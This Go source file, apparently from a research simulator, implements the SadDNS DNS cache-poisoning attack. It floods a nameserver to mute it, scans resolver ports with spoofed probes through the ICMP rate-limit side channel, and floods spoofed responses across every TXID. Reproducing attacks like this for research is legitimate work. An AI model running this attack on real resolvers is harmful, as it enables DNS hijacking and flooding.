package core

import (
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
)

// SadDNS implements the side-channel attack of §3.2 / Figure 1:
//
//  1. Mute the target nameserver by tripping its response-rate
//     limiting with a query flood, so the genuine response loses the
//     race ("4000 queries to mute NS via query flood").
//  2. Trigger a query at the victim resolver; it opens an ephemeral
//     UDP port and waits.
//  3. Scan for that port with batches of 50 spoofed probes (source =
//     nameserver) followed by one verification probe from the
//     attacker's own address: if all 50 probed ports were closed the
//     global ICMP bucket (50/s) is exhausted and the verification gets
//     no reply; a reply means an open port is in the batch.
//  4. Divide and conquer inside the batch (padding each round with
//     probes to known-closed ports so exactly 50 tokens are at stake).
//  5. Flood the isolated port with 2^16 spoofed responses, one per
//     TXID.
type SadDNS struct {
	Attacker *netsim.Host
	// ResolverAddr is the host whose socket the attack races — the
	// recursive resolver, or a forwarder hop when a chain's weakest
	// hop sits downstream of the resolver (see WeakestPortHop).
	ResolverAddr netip.Addr
	// NSAddr is the authoritative nameserver muted via its RRL.
	NSAddr netip.Addr
	// SpoofSource is the address the spoofed probes and the TXID flood
	// claim to come from: the target hop's upstream (what it expects
	// answers from). Zero means NSAddr — the classic setting where the
	// target is the recursive resolver itself.
	SpoofSource netip.Addr
	Spoof       Spoof

	// PortMin/PortMax is the ephemeral range scanned (the OS default
	// range is public knowledge).
	PortMin, PortMax uint16
	// MuteQPS queries are flooded to the nameserver each second to
	// keep it muted (paper: 4000). 0 disables muting.
	MuteQPS int
	// MaxIterations bounds the number of triggered queries.
	MaxIterations int
	// CheckSuccess reports whether the poison took effect; evaluated
	// between iterations (a real attacker probes the cache through an
	// open resolver or forwarder).
	CheckSuccess func() bool

	cursor  uint16 // scan position across iterations
	floodAt time.Duration
	// muteWire caches the packed mute query (same bytes every window);
	// chunkBuf is the reused candidate-port batch. Both are per-run
	// scratch — the probe loops are the attack's hottest paths after
	// the TXID flood.
	muteWire []byte
	chunkBuf []uint16
}

const (
	// windowsPerQuery bounds how many one-second scan windows a single
	// triggered query is assumed to keep its port open (resolver
	// timeout × retransmissions).
	windowsPerQuery = 5
	// knownClosedPort is a port the attacker knows is never bound on
	// the resolver (below the ephemeral range); used for padding and
	// verification probes.
	knownClosedPort uint16 = 1001
	// probesPerWindow is how many spoofed probes a scan window sends:
	// one full ICMP bucket (Linux burst 50).
	probesPerWindow = 50
)

// probePayload and padPayload are the fixed bodies of scan datagrams;
// package-level so the per-probe []byte("...") conversions do not
// allocate. padPorts are the known-closed ports a window's pads go to,
// in the order they are sent. SendUDPScan serializes into its own
// buffer and copies the ports, so sharing is safe.
var (
	probePayload = []byte("probe")
	padPayload   = []byte("pad")
	padPorts     = func() (p [probesPerWindow]uint16) {
		for i := range p {
			p[i] = knownClosedPort - 1 - uint16(i)
		}
		return p
	}()
)

// Run executes the attack until success or MaxIterations.
func (a *SadDNS) Run(trigger Trigger) Result {
	if a.MaxIterations <= 0 {
		a.MaxIterations = 1000
	}
	if !a.SpoofSource.IsValid() {
		a.SpoofSource = a.NSAddr
	}
	if a.cursor < a.PortMin || a.cursor > a.PortMax {
		a.cursor = a.PortMin
	}
	net := a.Attacker.Network()
	clock := net.Clock
	res := Result{Method: "SadDNS"}
	start := clock.Now()
	sentBefore := a.Attacker.Sent

	// The verification-probe listener: one shared ICMP observer.
	verifyHit := false
	a.Attacker.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
		if src == a.ResolverAddr && msg.IsPortUnreachable() {
			verifyHit = true
		}
	})
	defer a.Attacker.OnICMP(nil)

	for iter := 0; iter < a.MaxIterations; iter++ {
		res.Iterations++
		res.QueriesTriggered++
		a.runIteration(trigger, &verifyHit)
		net.Run()
		if a.CheckSuccess != nil && a.CheckSuccess() {
			res.Success = true
			break
		}
	}
	res.AttackerPackets = a.Attacker.Sent - sentBefore
	res.Duration = clock.Now() - start
	if res.Success && a.floodAt > start {
		// Time to poison: when the TXID flood landed.
		res.Duration = a.floodAt - start + 2*net.Latency()
	}
	res.Detail = fmt.Sprintf("scanned up to port %d", a.cursor)
	return res
}

// runIteration schedules one triggered query plus its scan slots. The
// scan is clocked to the victim's ICMP rate-limit windows (Linux:
// burst 50 refilled every 50ms): each slot burns one full bucket of 50
// probes plus the verification probe, so the side channel yields one
// bit ("was an open port among the 50?") per window. Divide and
// conquer then isolates the port in ~6 further windows — well within
// the seconds the resolver keeps the port open.
func (a *SadDNS) runIteration(trigger Trigger, verifyHit *bool) {
	net := a.Attacker.Network()
	clock := net.Clock
	slot := 50 * time.Millisecond
	if res := net.HostByAddr(a.ResolverAddr); res != nil {
		slot = res.ICMPWindow()
	}
	// Align to the next slot boundary so every batch lands inside one
	// bucket window.
	alignDelay := slot - clock.Now()%slot

	var candidates []uint16 // current suspect set (nil = scanning mode)
	found := uint16(0)

	clock.After(alignDelay, func() {
		a.mute()
		trigger(func() {})
	})
	// Keep the NS muted at every RRL window (1s) during the iteration.
	for sec := 1; sec < windowsPerQuery; sec++ {
		clock.After(alignDelay+time.Duration(sec)*time.Second, func() {
			if found == 0 {
				a.mute()
			}
		})
	}

	nSlots := int(windowsPerQuery*time.Second/slot) - 2
	for i := 0; i < nSlots; i++ {
		t0 := alignDelay + 2*slot + time.Duration(i)*slot
		var batch []uint16
		clock.After(t0, func() {
			if found != 0 {
				return
			}
			*verifyHit = false
			if len(candidates) == 0 {
				batch = a.nextChunk(probesPerWindow)
			} else {
				batch = candidates[:(len(candidates)+1)/2]
			}
			// Probes and the verification probe are sent back to back:
			// FIFO delivery puts the verification last within the same
			// rate-limit window.
			a.probe(batch)
			a.Attacker.SendUDP(777, a.ResolverAddr, knownClosedPort, []byte("verify"))
		})
		clock.After(t0+slot-slot/8, func() {
			if found != 0 {
				return
			}
			if *verifyHit {
				// An open port is inside batch.
				if len(batch) == 1 {
					found = batch[0]
					a.floodTXIDs(found)
					return
				}
				candidates = batch
			} else if len(candidates) > 0 {
				// Open port is in the other half.
				rest := candidates[(len(candidates)+1)/2:]
				if len(rest) == 1 {
					found = rest[0]
					a.floodTXIDs(found)
					return
				}
				candidates = rest
			}
			// Scanning mode miss: chunk was all closed, cursor already
			// advanced.
		})
	}
}

// mute floods the nameserver with queries to trip its RRL for the
// current window.
func (a *SadDNS) mute() {
	if a.MuteQPS <= 0 {
		return
	}
	if a.muteWire == nil {
		// The mute query is identical every window: pack it once per
		// run. SendUDP copies the payload, so the cached wire is never
		// mutated in flight.
		q := dnswire.NewQuery(0xdead, "mute."+dnswire.CanonicalName(a.Spoof.QName), dnswire.TypeA)
		wire, err := q.Pack()
		if err != nil {
			return
		}
		a.muteWire = wire
	}
	for i := 0; i < a.MuteQPS; i++ {
		a.Attacker.SendUDP(uint16(20000+i%1000), a.NSAddr, 53, a.muteWire)
	}
}

// probe sends spoofed datagrams (source = the target's upstream, port
// 53) to the given target ports, padding with known-closed ports so
// exactly 50 ICMP tokens are at stake: two scans, the probes and then
// the pads.
func (a *SadDNS) probe(ports []uint16) {
	a.Attacker.SendUDPScan(a.SpoofSource, 53, a.ResolverAddr, ports, probePayload)
	a.Attacker.SendUDPScan(a.SpoofSource, 53, a.ResolverAddr, padPorts[:max(0, probesPerWindow-len(ports))], padPayload)
}

// nextChunk returns the next batch of candidate ports, advancing the
// scan cursor with wraparound and skipping the resolver's service
// port.
func (a *SadDNS) nextChunk(n int) []uint16 {
	if cap(a.chunkBuf) < n {
		a.chunkBuf = make([]uint16, 0, n)
	}
	out := a.chunkBuf[:0]
	for len(out) < n {
		p := a.cursor
		if a.cursor >= a.PortMax {
			a.cursor = a.PortMin
		} else {
			a.cursor++
		}
		if p == 53 {
			continue
		}
		out = append(out, p)
	}
	return out
}

// floodTXIDs sends one spoofed response per possible TXID to the
// discovered port: one 2^16-datagram train (netsim.Host.SendUDPTrain)
// of the packed response, whose ID runs through every value.
func (a *SadDNS) floodTXIDs(port uint16) {
	resp := &dnswire.Message{
		Response: true, Authoritative: true, RecursionDesired: true,
		Questions: []dnswire.Question{{Name: dnswire.CanonicalName(a.Spoof.QName), Type: a.Spoof.QType, Class: dnswire.ClassIN}},
		Answers:   a.Spoof.Records,
	}
	wire, err := resp.Pack()
	if err != nil {
		return
	}
	a.floodAt = a.Attacker.Network().Clock.Now()
	a.Attacker.SendUDPTrain(a.SpoofSource, 53, a.ResolverAddr, port, wire, 1<<16)
}
